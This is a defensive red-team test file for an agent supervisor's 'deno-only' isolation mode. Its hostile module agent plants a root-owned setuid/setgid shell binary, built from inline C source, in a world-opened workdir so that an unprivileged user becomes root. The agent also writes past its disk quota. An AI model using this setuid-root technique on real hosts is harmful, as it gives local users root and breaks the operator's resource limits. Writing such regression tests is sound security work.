/**
 * Red team 26: what a deno-only module agent's files are on the host, under a root supervisor.
 *
 * Under `--isolation deno-only` the runner runs as the supervisor's uid (root here) with Deno's
 * permissions as its only layer, and none of the sandbox's limits (no prlimit, no cgroup, no
 * tmpfs): its home is a host directory inside the state root, `<root>/agents/<space>/<name>/home`.
 * A module agent needs no program and no accomplice for either attempt below:
 *
 * 1. **Host root for any local user.** `Deno.writeFile(<workdir>/x, bytes)`, `Deno.chmod(x,
 *    0o6755)` and `Deno.chmod(<workdir>, 0o777)` are all inside its write scope, so the agent
 *    leaves a root-owned setuid+setgid static ELF it carried in its own module (here: setgid(0),
 *    setuid(0), exec `id`) in the operator's project dir and opens that dir to everyone. An
 *    unrelated unprivileged user (uid 65534, no groups) runs it and is root.
 * 2. **The operator's limits do not apply.** A spawn given `--limit fileSize=1M --limit home=1M`
 *    writes 8 MiB into one file of its home: the home lives on the state root's disk, beside the
 *    broker's JetStream store and the secret store, with no quota at all.
 *
 * Observed 2026-12-05 (Deno 2.9.6, root, deno-only): both succeed (a 06755 root-owned ELF in the
 * workdir that uid 65534 ran as "uid=0(root) gid=0(root)"; an 8 MiB file in a home limited to
 * 1 MiB). deno-only is documented as the operator's
 * opt-out ("Deno permissions alone"), but neither cost is named in docs/SECURITY.md: the limits
 * table reads as applying per agent, and "what the supervisor's uid can read" says nothing of
 * what it leaves behind as that uid.
 *
 * Passes when the defence holds: no setuid/setgid root file appears, and the file stays within
 * the agent's fileSize limit. The defence: under a root supervisor deno-only refuses an agent
 * the operator did not trust with root (`sandbox_root_needs_trust`); a non-root supervisor's
 * agent runs as that user, whose setuid file gives no one root.
 */
import assert from "node:assert/strict";
import type { AgentRow } from "../../lib/manager/managed_agent.ts";
import { isCotalError } from "../../lib/errors.ts";
import { tempDir, waitFor } from "../_harness/broker.ts";
import { agentWorkdir } from "../manager/_agent_fixture.ts";
import { startManagerMesh } from "../manager/_manager_mesh.ts";

/** A static ELF that does setgid(0), setuid(0), then runs `id`; compiled here (gcc), else a script. */
async function rootShell(dir: string): Promise<Uint8Array> {
  await Deno.writeTextFile(
    `${dir}/rs.c`,
    '#include <unistd.h>\nint main(void){setgid(0);setuid(0);execl("/usr/bin/id","id",(char*)0);return 1;}\n',
  );
  const cc = await new Deno.Command("gcc", {
    args: ["-static", "-Os", "-s", "-o", `${dir}/rs`, `${dir}/rs.c`],
    stdout: "null",
    stderr: "null",
  }).output().catch(() => undefined);
  if (cc?.success) return await Deno.readFile(`${dir}/rs`);
  return new TextEncoder().encode("#!/bin/sh\nid\n");
}

const HOSTILE = `
export async function run(ctx) {
  await ctx.endpoint();
  const work = ctx.agentDir;
  const home = Deno.env.get("HOME");
  const report = {};
  try {
    // The agent carries its own bytes; as root it writes them, sets the setuid and setgid bits,
    // and opens its workdir to every local user.
    const elf = Uint8Array.from(atob("@@ELF@@"), (c) => c.charCodeAt(0));
    await Deno.writeFile(work + "/rootshell", elf, { mode: 0o755 });
    await Deno.chmod(work + "/rootshell", 0o6755);
    await Deno.chmod(work, 0o777);
    report.suid = "written";
  } catch (e) { report.suid = String(e); }
  try {
    const f = await Deno.open(home + "/big", { write: true, create: true });
    const chunk = new Uint8Array(1024 * 1024);
    for (let i = 0; i < 8; i++) await f.write(chunk);
    f.close();
    report.big = (await Deno.stat(home + "/big")).size;
  } catch (e) { report.big = String(e); }
  await Deno.writeTextFile(work + "/report.json", JSON.stringify(report));
  await new Promise((r) => ctx.signal.addEventListener("abort", r, { once: true }));
}
`;

Deno.test("redteam26 - a deno-only module agent leaves no setuid-root file and keeps its fileSize limit", async () => {
  await using mesh = await startManagerMesh("rt26do");
  await mesh.manager({ isolation: "deno-only" });
  const ctl = await mesh.control();
  const dir = await tempDir("cotal-rt26do-");
  const elf = await rootShell(dir);
  let b64 = "";
  for (let i = 0; i < elf.length; i += 0x8000) {
    b64 += String.fromCharCode(...elf.subarray(i, i + 0x8000));
  }
  await Deno.writeTextFile(`${dir}/hostile.js`, HOSTILE.replace("@@ELF@@", btoa(b64)));
  const work = await agentWorkdir("cotal-rt26do-work-");
  const spawned = await ctl.request<AgentRow>("spawn", {
    agent: "module",
    module: `${dir}/hostile.js`,
    name: "mallory",
    workdir: work,
    limits: { fileSize: 1024 * 1024, home: 1024 * 1024 },
  }, { timeoutMs: 40_000 }).catch((e: unknown) => e);
  if (Deno.uid() === 0) {
    // The defence: as root, deno-only runs only an agent the operator trusts with root.
    assert.ok(isCotalError(spawned, "sandbox_root_needs_trust"), String(spawned));
  } else {
    assert.equal((spawned as AgentRow).status, "running");
    await waitFor(async () => {
      try {
        JSON.parse(await Deno.readTextFile(`${work}/report.json`));
        return true;
      } catch {
        return false;
      }
    }, { timeoutMs: 30_000, what: "the agent's report" });
    console.log("agent report:", await Deno.readTextFile(`${work}/report.json`));
  }
  const st = await Deno.lstat(`${work}/rootshell`).catch(() => undefined);
  if (st) {
    console.log(
      `host: ${work}/rootshell uid ${st.uid} mode ${((st.mode ?? 0) & 0o7777).toString(8)}`,
    );
  }
  const setid = st && st.uid === 0 && ((st.mode ?? 0) & 0o6000) !== 0;
  // An unrelated local user (uid 65534, no groups) runs what the agent left.
  let asNobody = "";
  if (st) {
    const out = await new Deno.Command("setpriv", {
      args: ["--reuid=65534", "--regid=65534", "--clear-groups", `${work}/rootshell`],
      stdout: "piped",
      stderr: "piped",
      signal: AbortSignal.timeout(10_000),
    }).output().catch(() => undefined);
    asNobody = out ? new TextDecoder().decode(out.stdout).trim() : "";
    console.log(`uid 65534 runs ${work}/rootshell: ${asNobody}`);
  }
  const bigOnHost = (await Deno.readDir(`${mesh.root}/agents`)[Symbol.asyncIterator]().next())
    .value;
  let size = 0;
  if (bigOnHost) {
    const s = await Deno.stat(`${mesh.root}/agents/${bigOnHost.name}/mallory/home/big`).catch(() =>
      undefined
    );
    size = s?.size ?? 0;
  }
  console.log(`host: home/big is ${size} bytes (limit 1 MiB)`);
  assert.doesNotMatch(
    asNobody,
    /uid=0\b|euid=0\b/,
    "an unprivileged local user became root through the file the deno-only agent left",
  );
  assert.ok(!setid, "the deno-only agent left a root-owned setuid/setgid file in its workdir");
  assert.ok(size <= 1024 * 1024, `the deno-only agent wrote ${size} bytes past fileSize=1M`);
});
